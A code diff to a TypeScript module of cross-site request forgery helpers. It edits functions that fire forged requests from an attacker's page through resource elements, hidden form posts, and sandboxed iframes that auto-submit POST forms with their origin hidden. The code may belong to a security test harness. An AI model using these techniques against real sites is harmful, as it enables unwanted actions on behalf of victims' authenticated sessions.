@@ -22,6 +22,7 @@ export async function attackFromPage(requests: readonly ForgedRequest[]): Promis
     new Promise<void>((resolve) => {
       element.addEventListener('load', () => resolve());
       element.addEventListener('error', () => resolve());
+      // What the browser saves as a file instead of showing it loads never.
       setTimeout(resolve, 3_000);
       element.setAttribute(
         element.tagName === 'LINK' ? 'href' : element.tagName === 'OBJECT' ? 'data' : 'src',
@@ -98,12 +99,12 @@ export async function attackFromPage(requests: readonly ForgedRequest[]): Promis
         form.append(input);
       }
       document.body.append(form);
-      const sent = new Promise<void>((resolve) => {
-        frame.addEventListener('load', () => resolve());
+      const answered = new Promise((resolve) => {
+        frame.addEventListener('load', resolve);
         setTimeout(resolve, 2_000);
       });
       form.submit();
-      await sent;
+      await answered;
     }
   }
 
@@ -116,8 +117,8 @@ export async function attackFromPage(requests: readonly ForgedRequest[]): Promis
   return readable;
 }
 
-/** Runs in the attacker's page: frames that hide their origin send forms. */
-export async function attackFromHiddenOrigin(requests: readonly ForgedRequest[]): Promise<void> {
+/** Runs in the attacker's page: frames that hide their origin send forms, whose answers can be seen from outside alone. */
+export function attackFromHiddenOrigin(requests: readonly ForgedRequest[]): void {
   for (const { url, fields = {} } of requests) {
     const frame = document.createElement('iframe');
     frame.setAttribute('sandbox', 'allow-forms allow-scripts');
@@ -125,5 +126,4 @@ export async function attackFromHiddenOrigin(requests: readonly ForgedRequest[])
     frame.srcdoc = `<form method="post" action="${url}">${inputs.join('')}</form><script>document.forms[0].submit()</script>`;
     document.body.append(frame);
   }
-  await new Promise((resolve) => setTimeout(resolve, 3_000));
 }
